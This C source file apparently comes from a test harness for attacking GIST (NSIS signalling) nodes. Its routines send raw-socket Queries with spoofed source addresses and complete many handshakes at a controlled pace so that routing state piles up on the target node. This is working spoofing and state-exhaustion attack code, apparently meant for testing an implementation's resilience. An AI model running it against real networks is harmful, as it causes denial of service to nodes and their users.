/* Queries in the name of others, and handshakes that leave routing state; see datagrams.h. */
#include "harness/attack/datagrams.h"

#include "core/gist/transport.h"
#include "harness/attack/message.h"
#include "reference-node/sockets/query_sender.h"

#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum {
    OWN_PORT = 40270,
    RECEIVE_BUFFER = 8 << 20,
    UNANSWERED_MAX = 64, /* Queries ahead of the Responses, so that neither side's buffer fills */
    PATIENCE_MS = 200,
};

int attack_by_queries(const struct attack *attack)
{
    static uint8_t octets[ATTACK_DATAGRAM_MAX];
    struct query_sender *sender = query_sender_create();
    double start = attack_seconds();
    unsigned long sent = 0;
    if (!sender)
        return attack_fail("raw socket");
    for (unsigned long i = 0; i < attack->count; i++) {
        struct gist_query_route route = {.source = attack_source(attack, i),
            .destination = attack->to,
            .source_port = OWN_PORT,
            .ip_ttl = 64,
            .has_router_alert = true,
            .router_alert = 65};
        sent += query_sender_send(sender, &route, octets, attack_query(attack, i, octets));
        attack_keep_pace(attack, i + 1, start);
    }
    query_sender_destroy(sender);
    printf("%lu Queries in %.1f s\n", sent, attack_seconds() - start);
    return 0;
}

int attack_socket(const struct attack *attack)
{
    struct sockaddr_in own = {.sin_family = AF_INET, .sin_port = htons(OWN_PORT)};
    int size = RECEIVE_BUFFER;
    int descriptor = socket(AF_INET, SOCK_DGRAM, 0);
    memcpy(&own.sin_addr, attack->from.octets, sizeof(own.sin_addr));
    setsockopt(descriptor, SOL_SOCKET, SO_RCVBUFFORCE, &size, sizeof(size));
    if (bind(descriptor, (struct sockaddr *)&own, sizeof(own)) == 0)
        return descriptor;
    close(descriptor);
    return -1;
}

/* Confirms each Response that is there, or comes within the time. Returns how many. */
static unsigned long confirm_responses(const struct attack *attack, int descriptor, int within_ms)
{
    uint8_t response[2048], confirm[ATTACK_DATAGRAM_MAX];
    unsigned long confirmed = 0;
    struct pollfd readable = {.fd = descriptor, .events = POLLIN};
    while (poll(&readable, 1, confirmed > 0 ? 0 : within_ms) > 0) {
        struct sockaddr_in node;
        socklen_t length = sizeof(node);
        ssize_t received =
            recvfrom(descriptor, response, sizeof(response), 0, (struct sockaddr *)&node, &length);
        size_t octets =
            received > 0 ? attack_confirm(attack, response, (size_t)received, confirm) : 0;
        if (octets > 0 &&
            sendto(descriptor, confirm, octets, 0, (struct sockaddr *)&node, length) > 0)
            confirmed++;
    }
    return confirmed;
}

int attack_by_handshakes(const struct attack *attack)
{
    uint8_t query[ATTACK_DATAGRAM_MAX];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(GIST_PORT)};
    double start = attack_seconds();
    unsigned long confirmed = 0;
    long ahead = 0;
    int descriptor = attack_socket(attack);
    if (descriptor < 0)
        return attack_fail("UDP socket");
    memcpy(&to.sin_addr, attack->to.octets, sizeof(to.sin_addr));
    for (unsigned long i = 0; i < attack->count; i++) {
        size_t length = attack_query(attack, i, query);
        if (sendto(descriptor, query, length, 0, (struct sockaddr *)&to, sizeof(to)) < 0 &&
            errno != ENOBUFS && errno != EPERM)
            return attack_fail("sendto");
        bool must_wait = ++ahead >= UNANSWERED_MAX;
        unsigned long answered = confirm_responses(attack, descriptor, must_wait ? PATIENCE_MS : 0);
        confirmed += answered;
        ahead = must_wait && answered == 0 ? 0 : ahead - (long)answered;
        attack_keep_pace(attack, i + 1, start);
    }
    confirmed += confirm_responses(attack, descriptor, PATIENCE_MS);
    close(descriptor);
    printf("%lu of %lu handshakes confirmed in %.1f s\n", confirmed, attack->count,
        attack_seconds() - start);
    return 0;
}
